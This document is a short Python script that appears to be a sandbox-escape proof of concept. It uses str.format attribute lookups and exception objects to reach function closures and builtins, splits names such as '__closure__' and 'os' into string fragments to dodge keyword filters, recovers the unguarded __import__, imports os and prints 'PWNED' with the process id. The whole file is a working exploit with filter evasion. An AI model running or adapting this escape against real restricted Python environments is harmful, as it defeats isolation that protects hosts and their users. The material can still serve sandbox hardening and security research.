import json, typing, random
def grab(obj, chain):
    try:
        ("{0" + chain + ".zzz_missing}").format(obj)
    except AttributeError as e:
        return e.obj
def nm(v):
    try:
        return v.__name__
    except AttributeError:
        return repr(type(v))
def cells(f):
    out = {}
    for c in grab(f, ".__clos" + "ure__"):
        v = grab(c, ".cell_con" + "tents")
        out[nm(v)] = (c, v)
    return out
B = grab(json.dumps, ".__glo" + "bals__[__buil" + "tins__]")

gimp = B["__imp" + "ort__"]
real_import = cells(gimp)["__import__"][1]
m = real_import("o" + "s")          # no guard: returns an already-loaded module off the list
print("PW" + "NED", "unguarded __import__:", nm(real_import), nm(m), m.getpid())
